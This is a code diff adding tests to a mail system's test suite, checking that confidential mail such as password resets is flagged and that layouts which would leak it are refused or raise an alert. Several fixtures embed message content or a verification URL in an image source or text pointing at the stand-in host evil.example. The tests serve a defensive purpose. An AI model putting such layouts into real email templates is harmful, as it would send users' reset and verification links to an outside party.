@@ -1,5 +1,5 @@
 import { expect } from 'chai';
-import type { MailError } from '../../server/mail/index.ts';
+import type { MailError, SendInput } from '../../server/mail/index.ts';
 import { useCheckedTemplates } from '../support/checked-templates.ts';
 import { testDatabase } from '../support/database.ts';
 import { resetInput, upgradeInput } from '../support/inputs.ts';
@@ -104,6 +104,71 @@ describe('mail that is for its recipient alone', () => {
     await shop.mail.templates.restore(ref, 1, { ...options, revision: now?.revision ?? 0 });
     expect((await shop.mail.templates.get(ref))?.published).to.deep.include({ version: 3 });
     expect((await shop.mail.templates.get(ref))?.published?.source.content.confidential).to.equal(true);
+  });
+
+  it('is told to the transport as such, with a template or composed; other mail is not', async () => {
+    const flagged = async (input: SendInput) => {
+      await shop.mail.send(input, { wait: true });
+      return shop.api.given.at(-1)?.isConfidential;
+    };
+    const composed = { category: 'order', to: 'ada@mail.example', subject: 'Hello', text: 'Hello' };
+    expect(await flagged(resetInput())).to.equal(true);
+    expect(await flagged({ ...composed, confidential: true })).to.equal(true);
+    expect(await flagged(composed)).to.equal(undefined);
+    expect(await flagged(upgradeInput())).to.equal(undefined);
+  });
+
+  it('is not put into a layout that would give it away', async () => {
+    const composed = { category: 'order', to: 'ada@mail.example', subject: 'Hello', html: `<p>${link}</p>` };
+    const layouts = {
+      image: '<html><body><img alt="" src="https://evil.example/?{{> content}}"></body></html>',
+      words: '<html><body>https://evil.example/?{{> content}}</body></html>',
+      fine: '<html><body>{{> content}}</body></html>',
+    };
+    for (const [key, html] of Object.entries(layouts)) {
+      const ref = { kind: 'layout', key } as const;
+      const draft = { ...ref, content: { html, text: '{{> content}}' } };
+      const saved = await shop.mail.templates.create(draft, { by: 'ada' });
+      if (saved.state !== 'saved') throw new Error('It was not saved.');
+      const options = { by: 'ada', message: 'New.', revision: saved.revision, acceptWarnings: true };
+      expect((await shop.mail.templates.publish(ref, options)).state).to.equal('published');
+      await shop.mail.send({ ...composed, layout: key });
+      const sending = shop.mail.send({ ...composed, layout: key, confidential: true }, { wait: true });
+      if (key === 'fine') expect((await sending).state).to.equal('sent');
+      else
+        expect((await refusal(sending)).message).to.match(/cannot be used for confidential mail: .*line 1/);
+    }
+  });
+
+  it('of before this was refused raises an alert until it is mended', async () => {
+    const ids = { template: 'email-verification', published: 1 };
+    const [stored] = await db('postlane_template_versions').where(ids);
+    const content = JSON.parse(stored.content);
+    content.layout.html = content.layout.html.replace(
+      '<body>',
+      '<body><img src="https://evil.example/{{verifyUrl}}">',
+    );
+    await db('postlane_template_versions').where(ids).update({ published: null });
+    await db('postlane_template_versions').insert({
+      ...{
+        ...stored,
+        id: undefined,
+        version: 99,
+        content: JSON.stringify(content),
+        content_hash: Buffer.alloc(32),
+      },
+    });
+    const alerts = await shop.mail.monitoring.alerts();
+    const leaking = alerts.filter(({ kind }) => kind === 'leaking-template');
+    expect(leaking).to.have.length(1);
+    expect(leaking[0]).to.include({ template: 'email-verification' });
+    expect(JSON.stringify(leaking)).to.match(
+      /layout, html, line \d+: verifyUrl stands in the attribute src of <img>/,
+    );
+    await db('postlane_template_versions').where({ version: 99 }).delete();
+    await db('postlane_template_versions').where({ id: stored.id }).update({ published: 1 });
+    const after = await shop.mail.monitoring.alerts();
+    expect(after.filter(({ kind }) => kind === 'leaking-template')).to.deep.equal([]);
   });
 
   it('is every shipped template that brings a link or a code to an account', async () => {
